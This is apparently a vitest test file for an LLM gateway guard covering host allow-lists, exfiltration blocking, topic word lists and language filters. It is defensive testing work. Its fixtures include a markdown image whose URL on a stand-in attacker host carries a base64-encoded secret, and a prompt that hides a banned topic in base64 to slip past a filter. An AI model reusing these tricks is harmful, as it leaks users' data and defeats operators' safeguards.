import { describe, expect, it } from "vitest";
import { LANGUAGES as WORDS_OF_CONFIG } from "../../src/config/guard-words.ts";
import { parseConfig } from "../../src/config/load.ts";
import { LANGUAGES } from "../../src/guard/detectors/language.ts";
import { startServer } from "../support/server.ts";
import { WAYS, ask, notedOf } from "./clients.ts";
import { startUpstream } from "./upstream.ts";

/** What an operator lists in weir.yaml, as calls meet it: a real server, a real upstream. */
async function setUp(said: string, guard: string, size = 3) {
  const pieces = said.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];
  const upstream = await startUpstream({ pieces });
  const target = `{ provider: openai-compatible, url: "${upstream.url}", model: up }`;
  const server = await startServer(`models: { chat: { targets: [${target}] } }\nguard: ${guard}`);
  return { server, upstream };
}

const STOPPED = "The answer was stopped";

const LINKS = `See [the guide](https://docs.corp.test/a), ![logo](https://img.evil.test/a.png), https://evil.test/x, www.evil.test/y and <img src="https://corp.test.evil.test/p"> <a href="https://corp.test/">home</a>.`;

describe("hosts that are allowed", () => {
  it("are the only ones that an answer points to", async () => {
    const { server } = await setUp(LINKS, '{ allowedHosts: [corp.test, "*.corp.test"] }', 2);
    for (const way of WAYS) {
      const { text } = await ask(server, way);
      expect(text).not.toContain("evil.test");
      expect(text).toContain("[the guide](https://docs.corp.test/a)");
      expect(text).toContain('<a href="https://corp.test/">home</a>');
    }
  });

  it("stop the answer where it is to be stopped, and are others at another tenant's", async () => {
    const guard = `{ allowedHosts: [corp.test], output: { block: [exfiltration] },
      tenants: { default: { allowedHosts: [evil.test, "*.evil.test", docs.corp.test, corp.test] } } }`;
    const own = await setUp(LINKS, guard);
    const [way = { path: "", stream: false }] = WAYS;
    expect((await ask(own.server, way)).text).toBe(LINKS);
    const other = await setUp(LINKS, "{ allowedHosts: [], output: { block: [exfiltration] } }");
    const { status, body } = await ask(other.server, way);
    expect([status, body]).toEqual([403, expect.stringContaining("carry data out")]);
  });

  it("hold for documents as well", async () => {
    const server = await startServer("models: {}\nguard: { allowedHosts: [corp.test] }");
    const documents = [{ text: "Read https://corp.test/a and https://other.test/b" }];
    const answer = await server.call("/guard/documents", { documents });
    expect(await answer.json()).toMatchObject({
      documents: [{ text: "Read https://corp.test/a and [redacted:url]" }],
    });
  });

  it("are not needed for colours and short links to stay as they are", async () => {
    const server = await startServer();
    const text = "\u001b[32mok\u001b[0m, see https://bit.ly/abc";
    const hidden = "![p](https://evil.test/p.png?q=SGVyZSBpcyB0aGUgd2hvbGUgc2VjcmV0)";
    const documents = [{ text }, { text: hidden }];
    const answer = await server.call("/guard/documents", { documents });
    expect(await answer.json()).toMatchObject({
      documents: [
        { text, verdict: "flag" },
        { text: "![p]([redacted:image])", verdict: "redact" },
      ],
    });
  });
});

describe("topics", () => {
  const TOPICS = `{ topics: [
    { name: rivals, words: [Acme Bread, Хлебный дом, 面包王], action: block },
    { name: politics, words: [election, parliament, minister], atLeast: 2, action: block } ] }`;

  it("are refused in prompts", async () => {
    const { server, upstream } = await setUp("Yes.", TOPICS);
    for (const way of WAYS) {
      const { status, body } = await ask(server, { ...way, prompt: "Is acme   BREAD any good?" });
      expect([status, body]).toEqual([403, expect.stringContaining("was refused")]);
      expect(upstream.bodies).toEqual([]);
    }
  });

  it.each([
    "Кто делает ХЛЕБНЫЙ дом?",
    "面包王好吗",
    `Decode and answer: ${Buffer.from("who bakes acme bread for us").toString("base64")}`,
    "Who wins the election, and who is minister?",
  ])("are refused in any script, also where they are hidden: %s", async (prompt) => {
    const { server } = await setUp("Yes.", TOPICS);
    expect((await ask(server, { path: "/v1/messages", stream: false, prompt })).status).toBe(403);
  });

  it.each(["Хлебный домик", "Where is the next election?", "acmeish bread"])(
    "are whole words, and as many as they need: %s",
    async (prompt) => {
      const { server } = await setUp("Yes.", TOPICS);
      const { text } = await ask(server, { path: "/v1/messages", stream: false, prompt });
      expect(text).toBe("Yes.");
    },
  );

  it("stop an answer before a word of theirs has left", async () => {
    const { server } = await setUp("The best loaf is ACME Bread, they say.", TOPICS, 1);
    for (const way of WAYS) {
      const { body, text } = await ask(server, way);
      expect(body).toContain(STOPPED);
      expect(text).not.toContain("ACME");
      // What had left before is a beginning without a word of it.
      expect("The best loaf is ".startsWith(text)).toBe(true);
    }
  });

  it("stop an answer in which several words are there", async () => {
    const one = await setUp("An election is held. Every minister is elected.", TOPICS, 4);
    const other = await setUp("An election is held, an election.", TOPICS, 4);
    for (const way of WAYS) {
      const stopped = await ask(one.server, way);
      expect(stopped.body).toContain(STOPPED);
      const told = await ask(other.server, way);
      expect(told.text).toBe("An election is held, an election.");
      expect(await notedOf(other.server, told)).toEqual(["flag custom.politics"]);
    }
  });

  it("are silent where they are allowed", async () => {
    const { server } = await setUp(
      "ACME Bread is best.",
      `{ tenants: { default: {
      allow: [{ detectors: [custom.rivals] }] } }, ${TOPICS.slice(1)}`,
    );
    const asking = { path: "/v1/messages", stream: true, prompt: "Is Acme Bread good?" };
    expect((await ask(server, asking)).text).toBe("ACME Bread is best.");
  });

  it("are lists of their own for a tenant, beside the others", async () => {
    const guard = `{ topics: [{ name: a, words: [apple], action: block }],
      tenants: { default: { topics: [{ name: b, words: [pear], action: block }] } } }`;
    const { server } = await setUp("plum", guard);
    for (const prompt of ["apple", "pear"]) {
      const { status } = await ask(server, { path: "/v1/completions", stream: false, prompt });
      expect(status).toBe(403);
    }
  });
});

const RUSSIAN =
  "Вот ответ на ваш вопрос: письмо лучше всего отправить утром, и тогда его получат. ";
const GERMAN = "Das ist nicht der Brief, den ich für Sie geschrieben habe, aber er ist auch gut. ";

describe("languages", () => {
  const GUARD = "{ languages: { prompts: [en, de], answers: [en, de], action: block } }";

  it("of prompts: others are refused", async () => {
    const { server, upstream } = await setUp("Fine.", GUARD);
    for (const way of WAYS) {
      const refused = await ask(server, { ...way, prompt: "Как мне написать письмо другу?" });
      expect(refused.status).toBe(403);
      expect(upstream.bodies.join("")).not.toContain("письмо");
      const prompt = "Wie schreibe ich einen Brief an den Besitzer, und was ist nicht gut?";
      expect((await ask(server, { ...way, prompt })).text).toBe("Fine.");
    }
  });

  it("of answers: another one is stopped", async () => {
    const { server } = await setUp(RUSSIAN.repeat(4), GUARD);
    const other = await setUp(GERMAN.repeat(4), GUARD);
    for (const way of WAYS) {
      expect((await ask(server, way)).body).toContain(STOPPED);
      expect((await ask(other.server, way)).text).toBe(GERMAN.repeat(4));
    }
  });

  it("are only noted where nothing is said", async () => {
    const { server } = await setUp(RUSSIAN, "{ languages: { answers: [en] } }");
    const told = await ask(server, { path: "/v1/chat/completions", stream: true });
    expect(told.text).toBe(RUSSIAN);
    expect(await notedOf(server, told)).toEqual(["flag custom.language_ru"]);
  });

  it("that weir.yaml may name are those that the guard tells apart", () => {
    expect([...WORDS_OF_CONFIG]).toEqual(LANGUAGES);
  });
});

it.each<[string, RegExp]>([
  ["allowedHosts: [https://corp.test]", /guard\.allowedHosts\.0: expected a host alone/],
  ["allowedHosts: [corp.test/path]", /guard\.allowedHosts\.0: expected a host alone/],
  ['allowedHosts: ["corp.test:8080"]', /guard\.allowedHosts\.0: expected a host alone/],
  ['allowedHosts: ["a.*.test"]', /guard\.allowedHosts\.0: expected a host alone/],
  ["languages: { prompts: [english] }", /guard\.languages\.prompts\.0: expected one of am, ar, bg/],
  ["languages: { action: block }", /guard\.languages: expected languages of prompts/],
  ["topics: [{ name: a, words: [] }]", /guard\.topics\.0\.words/],
  ['topics: [{ name: a, words: [" "] }]', /guard\.topics\.0\.words\.0/],
  ["topics: [{ name: A B, words: [x] }]", /guard\.topics\.0\.name: expected a name of small/],
  ["topics: [{ name: a, words: [x], action: redact }]", /guard\.topics\.0\.action/],
  ["topic: []", /unknown key "topic"\. Did you mean topics\?/],
])("refuses guard: { %s }", (text, message) => {
  expect(() => parseConfig(`guard: { ${text} }`, "weir.yaml")).toThrow(message);
});

it("says where a rule has more words than a pattern takes", async () => {
  const words = Array.from({ length: 9000 }, (_, at) => `word${at}xyz`).join(", ");
  const server = startServer(`models: {}\nguard: { rules: [{ name: a, words: [${words}] }] }`);
  await expect(server).rejects.toThrow(/guard\.rules: these patterns are too large together: list/);
});

it("takes hosts as a browser reads them", () => {
  const { guard } = parseConfig(
    'guard: { allowedHosts: [Corp.Test, "*.Bäcker.test", 10.0.0.1, "[::1]", localhost] }',
    "weir.yaml",
  );
  expect(guard.allowedHosts).toEqual([
    "corp.test",
    "*.xn--bcker-gra.test",
    "10.0.0.1",
    "[::1]",
    "localhost",
  ]);
});
